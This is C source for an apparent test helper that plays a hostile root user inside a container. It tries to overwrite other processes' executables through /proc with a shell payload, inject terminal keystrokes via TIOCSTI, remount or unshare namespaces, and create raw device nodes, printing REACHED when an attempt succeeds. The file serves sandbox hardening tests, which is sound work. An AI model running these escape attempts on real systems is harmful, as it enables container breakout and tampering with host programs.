// SPDX-License-Identifier: Apache-2.0
// What hostile root of a container tries. Each attempt that does harm prints a line that begins with REACHED; attempts
// that failed are told once each with their error, so that a test can see that they were made.
//   keep FD          goes for the file of FD for SECONDS (from /seconds, else 1)
//   hunt SECONDS     goes for the program of every process that appears
//   file PATH...     goes for these files
//   swap A B SECONDS exchanges two names without end
//   tiocsti, mounts, nodes
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif

enum { SAID_MAX = 512, LINE_MAX_BYTES = 160 };

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static FILE *report; // a bind of the test's, for when nobody reads our output any more

// Each line once.
static void say(const char *what, const char *how, int result)
{
	static char said[SAID_MAX][LINE_MAX_BYTES];
	char line[LINE_MAX_BYTES];

	snprintf(line, sizeof(line), "%s%s %s: %s", result ? "" : "REACHED ", what, how,
		 result ? strerrorname_np(result) : "done");
	for (int i = 0; i < SAID_MAX; i++) {
		if (!strcmp(said[i], line))
			return;
		if (*said[i])
			continue;
		strcpy(said[i], line);
		printf("%s\n", line);
		fflush(stdout);
		if (report) {
			fprintf(report, "%s\n", line);
			fflush(report);
		}
		return;
	}
}

#define TRY(what, how, call) say(what, how, (call) < 0 ? errno : 0)

static void go_for(const char *what, const char *path)
{
	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
	struct timespec t[2] = {{.tv_nsec = UTIME_NOW}, {.tv_nsec = UTIME_NOW}};
	struct stat st;
	int at = open(path, O_PATH | O_CLOEXEC), fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	if (stat(path, &st) < 0)
		return;
	say(what, "open for writing", fd < 0 ? errno : S_ISREG(st.st_mode) ? 0 : EINVAL);
	if (fd >= 0 && S_ISREG(st.st_mode))
		TRY(what, "write", write(fd, "#!/bin/sh\ntouch /pwned\n", 23));
	if (S_ISREG(st.st_mode))
		TRY(what, "truncate", truncate(path, 3));
	TRY(what, "chmod", chmod(path, 04777));
	TRY(what, "chown", chown(path, 12345, 12345));
	TRY(what, "utimens", utimensat(AT_FDCWD, path, t, 0));
	TRY(what, "setxattr", setxattr(path, "user.x", "x", 1, 0));
	TRY(what, "make its mount writable",
	    syscall(SYS_mount_setattr, at, "", AT_EMPTY_PATH, &writable, sizeof(writable)));
	TRY(what, "remount", mount("", path, NULL, MS_REMOUNT | MS_BIND, NULL));
	close(at);
	close(fd);
}

static void keep(int fd)
{
	char path[64];
	int seconds = 1;
	FILE *f = fopen("/seconds", "r");
	struct stat st;

	if (f && fscanf(f, "%d", &seconds) != 1)
		seconds = 1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	printf("kept %s inode %llu\n", path, fstat(fd, &st) ? 0ULL : (unsigned long long)st.st_ino);
	fflush(stdout);
	for (double end = now() + seconds; now() < end; usleep(200))
		go_for("program", path);
}

static void hunt(double seconds)
{
	struct stat self, st;
	char path[300];

	stat("/proc/self/exe", &self);
	for (double end = now() + seconds; now() < end;) {
		DIR *d = opendir("/proc");
		for (struct dirent *p; d && (p = readdir(d));) {
			if (*p->d_name < '1' || *p->d_name > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", p->d_name);
			if (stat(path, &st) < 0 || st.st_ino == self.st_ino)
				continue;
			int fd = open(path, O_PATH);
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			if (fstat(fd, &st) < 0 ||
			    (getenv("INODE") && st.st_ino != strtoull(getenv("INODE"), NULL, 10))) {
				close(fd);
				continue;
			}
			printf("found it\n");
			go_for("found", path); // and again when it is gone: the descriptor is kept
			usleep(2000);
			go_for("found", path);
			close(fd);
		}
		closedir(d);
	}
}

static void swap(const char *a, const char *b, double seconds)
{
	for (double end = now() + seconds; now() < end;)
		for (int i = 0; i < 1000; i++)
			renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void terminal(void)
{
	char c = 'x';
	unsigned long high = 0x100000000UL | TIOCSTI;

	TRY("tty", "TIOCSTI", ioctl(0, TIOCSTI, &c));
	TRY("tty", "TIOCSTI with high bits", syscall(SYS_ioctl, 0, high, &c));
	c = 3;
	TRY("tty", "TIOCLINUX", ioctl(0, TIOCLINUX, &c));
}

static void mounts(void)
{
	mkdir("/m", 0755);
	TRY("mounts", "tmpfs", mount("t", "/m", "tmpfs", 0, NULL));
	TRY("mounts", "bind", mount("/bin", "/m", NULL, MS_BIND, NULL));
	TRY("mounts", "remount root", mount("", "/", NULL, MS_REMOUNT | MS_BIND, NULL));
	TRY("mounts", "remount /proc/sys", mount("", "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
	TRY("mounts", "umount /proc/timer_list", umount2("/proc/timer_list", MNT_DETACH));
	TRY("mounts", "umount /sys/firmware", umount2("/sys/firmware", MNT_DETACH));
	TRY("mounts", "unshare mounts", unshare(CLONE_NEWNS));
	TRY("mounts", "unshare users", unshare(CLONE_NEWUSER));
	TRY("mounts", "unshare users and mounts", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	TRY("mounts", "unshare cgroups", unshare(CLONE_NEWCGROUP));
	TRY("mounts", "open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
	TRY("mounts", "fsopen", syscall(430, "tmpfs", 0));
	TRY("mounts", "clone", syscall(SYS_clone, CLONE_NEWUSER | 17, 0, 0, 0, 0) ? -1 : 0);
	TRY("mounts", "pivot_root", syscall(SYS_pivot_root, ".", "."));
	TRY("mounts", "setns", setns(open("/proc/self/ns/mnt", O_RDONLY), 0));
	TRY("mounts", "cgroup v1", mount("c", "/m", "cgroup", 0, "memory"));
	TRY("mounts", "chroot and out", chroot("/m") < 0 ? -1 : (errno = EPERM, -1));
}

static void nodes(void)
{
	static const struct {
		const char *name;
		mode_t type;
		unsigned major, minor;
	} all[] = {{"mem", S_IFCHR, 1, 1}, {"kmsg", S_IFCHR, 1, 11},   {"disk", S_IFBLK, 254, 0},
		   {"sda", S_IFBLK, 8, 0}, {"fuse", S_IFCHR, 10, 229}, {"kvm", S_IFCHR, 10, 232},
		   {"tty1", S_IFCHR, 4, 1}};
	char path[64];

	for (size_t i = 0; i < sizeof(all) / sizeof(*all); i++) {
		snprintf(path, sizeof(path), "/tmp/%s", all[i].name);
		int made = mknod(path, all[i].type | 0666, makedev(all[i].major, all[i].minor));
		int fd = made < 0 ? -1 : open(path, O_RDONLY | O_NONBLOCK);
		say("node", all[i].name, fd >= 0 ? 0 : errno);
	}
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	signal(SIGPIPE, SIG_IGN);
	report = fopen("/report", "r+");
	if (!strcmp(mode, "keep"))
		keep(atoi(argv[2]));
	else if (!strcmp(mode, "hunt"))
		hunt(atof(argv[2]));
	else if (!strcmp(mode, "swap"))
		swap(argv[2], argv[3], atof(argv[4]));
	else if (!strcmp(mode, "tiocsti"))
		terminal();
	else if (!strcmp(mode, "mounts"))
		mounts();
	else if (!strcmp(mode, "nodes"))
		nodes();
	else
		for (int i = 2; i < argc; i++)
			go_for(argv[i], argv[i]);
	printf("attack over\n");
	return 0;
}
